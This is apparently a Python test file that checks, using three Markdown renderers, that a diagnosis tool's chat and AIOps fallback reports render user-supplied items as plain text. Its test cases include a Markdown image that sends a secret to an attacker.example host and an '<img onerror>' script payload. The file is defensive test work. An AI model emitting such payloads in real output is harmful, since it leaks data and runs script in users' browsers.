"""The §6.8 outcome rule, checked with real Markdown renderers.

Every fallback (the chat pre- and post-verification fallbacks, the AIOps
fallback and report view) is rendered to HTML by markdown-it-py (CommonMark
with linkify, strikethrough and tables, and its ``gfm-like`` preset), mistune
(with its URL, strikethrough and other inline plugins) and GitHub's cmark-gfm
(autolink, strikethrough, table and tag-filter extensions). The oracle is
independent of the escaping code: a document with hostile items must parse
to exactly the same HTML elements as the same document with a neutral
alphanumeric item in every slot — so no item adds a link, an image, an
autolink, raw HTML, a heading, a list, a block quote, emphasis,
strikethrough or a code span, and the template's own structure is told apart
by construction — and the text between the elements must be the neutral
document's text with the neutral item replaced by the item as the reader
should see it (controls removed, whitespace folded, capped), computed here
from the spec, not by the renderer's own helpers.
"""

from __future__ import annotations

import unicodedata
from collections.abc import Callable
from html.parser import HTMLParser

import cmarkgfm  # type: ignore[import-untyped]
import mistune
import pytest
from cmarkgfm.cmark import Options  # type: ignore[import-untyped]
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from diagnosis_core._aiops.rendering import render_aiops_fallback, render_aiops_report
from diagnosis_core._aiops.trace import AiOpsCallCounts
from diagnosis_core._chat.config import DiagnosisConfig
from diagnosis_core._chat.enums import AnswerMode, GatekeeperStatus, ReasonCode
from diagnosis_core._chat.payloads import ToolTraceEntry
from diagnosis_core._chat.projection import AllowedClaim
from diagnosis_core._chat.rendering import (
    render_post_verification_fallback,
    render_pre_verification_fallback,
)
from diagnosis_core._kernel.enums import Locale
from diagnosis_core._kernel.machine.text import sanitize_item
from diagnosis_core.aiops import AiOpsConfig, AiOpsMode, AiOpsReasonCode
from diagnosis_core.protocol import (
    AiOpsEvidence,
    AiOpsFinding,
    AiOpsRecommendedAction,
    AiOpsReport,
    Alert,
)

NEUTRAL = "Neutral0item"
CAP = 40
# The invisible joiner the escaping puts before each `@` (spec §6.8 allows
# it: the visible text is unchanged). Cleaned items never contain it (Cf).
WORD_JOINER = "\u2060"

# --- renderers ------------------------------------------------------------------

_MDIT_COMMONMARK = MarkdownIt("commonmark", {"linkify": True}).enable(
    ["linkify", "strikethrough", "table"]
)
_MDIT_GFM_LIKE = MarkdownIt("gfm-like")
_MISTUNE_PLUGINS: list[str] = [
    "url",
    "strikethrough",
    "table",
    "footnotes",
    "mark",
    "insert",
    "superscript",
    "subscript",
    "math",
    "task_lists",
    "spoiler",
    "abbr",
    "def_list",
]
# mistune's CommonMark mode (raw HTML passes, entities are decoded) — the
# strictest check — and its escape mode, which prints every entity literally
# (so `&amp;` reads "&amp;" there: only its structure is compared).
_MISTUNE = mistune.create_markdown(escape=False, plugins=_MISTUNE_PLUGINS)
_MISTUNE_ESCAPE = mistune.create_markdown(escape=True, plugins=_MISTUNE_PLUGINS)
_CMARK_EXTENSIONS = ("autolink", "strikethrough", "table", "tagfilter")


def _cmark_gfm(text: str) -> str:
    html: str = cmarkgfm.markdown_to_html_with_extensions(
        text, options=Options.CMARK_OPT_UNSAFE, extensions=_CMARK_EXTENSIONS
    )
    return html


def _mistune(text: str) -> str:
    html = _MISTUNE(text)
    assert isinstance(html, str)
    return html


def _mistune_escape(text: str) -> str:
    html = _MISTUNE_ESCAPE(text)
    assert isinstance(html, str)
    return html


RENDERERS: dict[str, Callable[[str], str]] = {
    "markdown-it-py commonmark+linkify": _MDIT_COMMONMARK.render,
    "markdown-it-py gfm-like": _MDIT_GFM_LIKE.render,
    "mistune": _mistune,
    "cmark-gfm": _cmark_gfm,
}
STRUCTURE_ONLY: dict[str, Callable[[str], str]] = {"mistune escape mode": _mistune_escape}


def test_the_renderers_are_configured_to_produce_what_the_rule_forbids() -> None:
    # Guards the oracle: with the same renderers, unescaped input does become
    # a link, an image, an email link and emphasis.
    raw = "see ![x](http://a.example/p.png) and www.x.com or u@example.com *em* ~~s~~"
    for name, render in RENDERERS.items():
        html = render(raw)
        assert "<img" in html, name
        assert "<em>" in html, name
        assert "<del>" in html or "<s>" in html, name
    assert 'href="http://www.x.com"' in _MDIT_COMMONMARK.render(raw)
    assert 'href="mailto:u@example.com"' in _cmark_gfm(raw)
    assert "<a " in _mistune("https://x.example/")


# --- the oracle ------------------------------------------------------------------


class _Events(HTMLParser):
    """HTML as a sequence of elements (tag and attributes) and the text between them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, str, tuple[tuple[str, str | None], ...]]] = []
        self.texts: list[str] = [""]

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(("start", tag, tuple(attrs)))
        self.texts.append("")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        self.tags.append(("end", tag, ()))
        self.texts.append("")

    def handle_data(self, data: str) -> None:
        self.texts[-1] += data

    def handle_comment(self, data: str) -> None:
        self.tags.append(("comment", data, ()))
        self.texts.append("")


def _parse(html: str) -> _Events:
    events = _Events()
    events.feed(html)
    events.close()
    return events


def visible(text: str, cap: int) -> str:
    """What a reader must see of an item (spec §6.8), derived from the spec alone.

    CR LF is one break; a control, format or line/paragraph separator that is
    whitespace becomes one space, any other is dropped; a lone surrogate is
    U+FFFD; surrounding whitespace goes; more than ``cap`` characters keep
    ``cap - 1`` and an ellipsis.
    """
    kept = []
    for char in text.replace("\r\n", "\n"):
        category = unicodedata.category(char)
        if category in {"Cc", "Cf", "Zl", "Zp"}:
            kept.append(" " if char.isspace() else "")
        elif category == "Cs":
            kept.append("\ufffd")
        else:
            kept.append(char)
    cleaned = "".join(kept).strip()
    return cleaned if len(cleaned) <= cap else cleaned[: cap - 1] + "…"


def assert_items_inert(render: Callable[[str], str], item: str, cap: int = CAP) -> None:
    """``render(item)`` has the structure of ``render(NEUTRAL)`` and shows ``item`` as text."""
    expected_text = visible(item, cap)
    hostile_doc = render(item)
    neutral_doc = render(NEUTRAL)
    assert NEUTRAL in neutral_doc
    for name, to_html in {**RENDERERS, **STRUCTURE_ONLY}.items():
        hostile = _parse(to_html(hostile_doc))
        neutral = _parse(to_html(neutral_doc))
        assert hostile.tags == neutral.tags, (name, hostile_doc)
        if name in STRUCTURE_ONLY:
            continue
        shown = [text.replace(WORD_JOINER, "") for text in hostile.texts]
        assert shown == [text.replace(NEUTRAL, expected_text) for text in neutral.texts], (
            name,
            hostile_doc,
        )


# --- the documents -----------------------------------------------------------------


def chat_post(item: str, locale: Locale = Locale.EN) -> str:
    return render_post_verification_fallback(
        run_id=item,
        answer_mode=AnswerMode.LOW_CONFIDENCE,
        allowed_claims=(AllowedClaim("c1", item), AllowedClaim("c2", item)),
        missing_info=(item,),
        recommended_actions=(item, item),
        config=DiagnosisConfig(max_item_chars=CAP, locale=locale),
    )


def chat_pre(item: str, locale: Locale = Locale.EN) -> str:
    return render_pre_verification_fallback(
        reason_code=ReasonCode.GATEKEEPER_REJECTED,
        run_id=item,
        gatekeeper_status=GatekeeperStatus.REJECT,
        binding_counts=(2, 1, 1),
        tool_trace=(ToolTraceEntry("query_logs", True),),
        config=DiagnosisConfig(max_item_chars=CAP, locale=locale),
    )


def chat_pre_tool(item: str, locale: Locale = Locale.EN) -> str:
    """A tool name in the overview (only ``[A-Za-z0-9_.:-]{1,64}`` names reach it)."""
    return render_pre_verification_fallback(
        reason_code=ReasonCode.NO_TRUSTED_EVIDENCE,
        run_id="run-1",
        gatekeeper_status=None,
        binding_counts=None,
        tool_trace=(ToolTraceEntry(item, False),),
        config=DiagnosisConfig(max_item_chars=64, locale=locale),
    )


def aiops_fallback(item: str, locale: Locale = Locale.EN) -> str:
    return render_aiops_fallback(
        reason_code=AiOpsReasonCode.NO_PROGRESS,
        run_id=item,
        mode=AiOpsMode.PAYLOAD_TARGETED,
        alerts=(Alert(name=item, service=item, severity=item, started_at=item),),
        supervisor_steps=3,
        calls=AiOpsCallCounts(supervisor=3, planner=1, executor=1, reporter=0),
        tool_invocation_count=2,
        config=AiOpsConfig(max_item_chars=CAP, locale=locale),
    )


def aiops_report(item: str, locale: Locale = Locale.EN) -> str:
    report = AiOpsReport(
        summary=item,
        findings=(
            AiOpsFinding(
                alert_name=item, service=item, text=item, cited_invocation_ids=(item, "inv-2")
            ),
        ),
        evidence=(AiOpsEvidence(text=item, cited_invocation_ids=(item,)),),
        recommended_actions=(
            AiOpsRecommendedAction(text=item),
            AiOpsRecommendedAction(text=item, alert_name=item, service=item),
        ),
    )
    return render_aiops_report(report, AiOpsConfig(max_item_chars=CAP, locale=locale))


DOCUMENTS: dict[str, Callable[[str, Locale], str]] = {
    "chat post-verification fallback": chat_post,
    "chat pre-verification fallback": chat_pre,
    "AIOps fallback": aiops_fallback,
    "AIOps report": aiops_report,
}


# --- the cases of the issue ---------------------------------------------------------

ISSUE_CASES = [
    "see ![x](http://attacker.example/p.png?leak=SECRET)",
    "![x](http://attacker.example/p.png?leak=SECRET)",
    "check [the runbook](https://attacker.example/r) first",
    "open www.x.com for details",
    "www.attacker.com",
    "https://attacker.example/path?q=1",
    "mail user@example.com now",
    "attacker.example",
    "<https://attacker.example>",
    "<oncall@example.com>",
    "*emphasis* and **strong** and _under_ and __dunder__",
    "~~struck~~ and ~single~",
    "`code span` and ``double``",
    "<img src=x onerror=alert(1)>",
    "<!-- comment --> &lt; &#x41; &copy;",
    "# heading",
    "> quote",
    "- list",
    "1. ordered",
    "| a | b |",
    "[ref]: https://attacker.example",
    "[ref] and [ref][] and [x][ref]",
    "a\\",
    "trailing backslash \\",
    "line one\nline two\n===",
    "x_y_z and a-b-c and GATEKEEPER_REJECTED and run-1",
    "ftp://host.example and mailto:x@y.example and xmpp:a@b.example/c",
    "http：//fullwidth.example and www。x。com",
    "$math$ and $$display$$ and ==mark== and ^sup^ and ~sub~ and ++ins++",
    "footnote[^1] and >!spoiler!<",
    "- [ ] task",
    "2024-01-01T10:00:00Z",
]


@pytest.mark.parametrize("item", ISSUE_CASES)
@pytest.mark.parametrize("document", list(DOCUMENTS))
@pytest.mark.parametrize("locale", list(Locale))
def test_issue_cases_render_as_plain_text(item: str, document: str, locale: Locale) -> None:
    assert_items_inert(lambda value: DOCUMENTS[document](value, locale), item)


@pytest.mark.parametrize(
    "name", ["www.attacker.com", "attacker.example", "http:x.example", "a_b_", "_x_", "1.", "-"]
)
def test_tool_names_are_not_links(name: str) -> None:
    assert_items_inert(lambda value: chat_pre_tool(value, Locale.EN), name, cap=64)


def test_the_image_of_the_issue_is_no_image_and_reads_as_written() -> None:
    item = "see ![x](http://attacker.example/p.png?leak=SECRET)"
    for name, render in RENDERERS.items():
        html = render(
            render_post_verification_fallback(
                run_id="run-1",
                answer_mode=AnswerMode.NORMAL,
                allowed_claims=(),
                missing_info=(item,),
                recommended_actions=(),
                config=DiagnosisConfig(),
            )
        )
        assert "<img" not in html and "<a " not in html, name
        assert f"<li>{item}</li>" in html.replace("&quot;", '"'), name


def test_identifiers_keep_their_plain_form() -> None:
    assert sanitize_item("GATEKEEPER_REJECTED run-1 query_logs", CAP) == (
        "GATEKEEPER_REJECTED run-1 query_logs"
    )


# --- properties ----------------------------------------------------------------------

MARKDOWN_PIECES = [
    *"!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~",
    " ", "\t", "\n", "\r\n", "\u2028", "\u00a0", "\u3000", "\u200b", "\u2060", "\u202e",
    "www.", "http://", "https://", "mailto:", "ftp://", "//", ".com", ".example", ".io",
    "@", "a@b.co", "x.y", "](", "![", "<a href=x>", "</a>", "<img src=x>", "<!--", "-->",
    "&amp;", "&#46;", "&#x40;", "&lt;", "&", "**", "__", "~~", "``", "```", "$$", "==",
    "1.", "2)", "- ", "* ", "+ ", "# ", "> ", "| ", "---", "===", "[^1]", "[ ]",
    "\\", "\\\\", "。", "：", "＠", "．",
    "a", "b", "Z", "0", "9", "é", "中", "x", "word",
]
markdownish = st.lists(st.sampled_from(MARKDOWN_PIECES), max_size=12).map("".join)
any_text = st.text(alphabet=st.characters(codec=None, blacklist_categories=()), max_size=60)
items = st.one_of(markdownish, any_text)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(item=items, document=st.sampled_from(list(DOCUMENTS)), locale=st.sampled_from(list(Locale)))
def test_no_item_produces_markdown_or_html_and_its_text_is_kept(
    item: str, document: str, locale: Locale
) -> None:
    assume(visible(item, CAP))
    assert_items_inert(lambda value: DOCUMENTS[document](value, locale), item)


tool_names = st.text(alphabet="abcwxz019_.:-", min_size=1, max_size=64).filter(
    lambda name: name != NEUTRAL
)


@settings(max_examples=100, deadline=None)
@given(name=st.one_of(tool_names, st.sampled_from(["www.a.com", "a.io", "x:y", "a.b.c"])))
def test_no_tool_name_produces_markdown(name: str) -> None:
    assert_items_inert(lambda value: chat_pre_tool(value, Locale.EN), name, cap=64)



# --- the lines both workflows share ------------------------------------------------------

_SHARED_LINES = {
    Locale.EN: (
        "- Reason code: ",
        "### Recommended actions",
        "Inspect the trace of run run-9 for details.",
        "- None.",
    ),
    Locale.ZH_CN: (
        "- 原因代码：",
        "### 建议的操作",
        "请查看运行 run-9 的追踪记录以了解详情。",
        "- 无。",
    ),
}


@pytest.mark.parametrize("locale", list(Locale))
def test_both_workflows_say_the_shared_lines_in_the_same_words(locale: Locale) -> None:
    """The reason-code line, the actions heading, the trace pointer and the "none"
    bullet read the same in the chat and the AIOps texts of one locale."""
    reason_code, actions_title, trace_pointer, none_line = _SHARED_LINES[locale]
    pre = chat_pre("run-9", locale)
    post = render_post_verification_fallback(
        run_id="run-9",
        answer_mode=AnswerMode.DEGRADED,
        allowed_claims=(),
        missing_info=(),
        recommended_actions=(),
        config=DiagnosisConfig(max_item_chars=CAP, locale=locale),
    )
    fallback = aiops_fallback("run-9", locale)
    report = render_aiops_report(
        AiOpsReport(summary="", findings=(), evidence=(), recommended_actions=()),
        AiOpsConfig(max_item_chars=CAP, locale=locale),
    )
    assert f"\n{reason_code}GATEKEEPER_REJECTED\n" in pre
    assert f"\n{reason_code}NO_PROGRESS\n" in fallback
    for text in (pre, post, fallback):
        assert text.endswith(f"\n\n{trace_pointer}")
    assert f"\n{actions_title}\n\n{none_line}\n\n{trace_pointer}" in post
    assert report.endswith(f"\n{actions_title}\n\n{none_line}")
    assert report.count(f"\n\n{none_line}") == 4  # summary, findings, evidence, actions
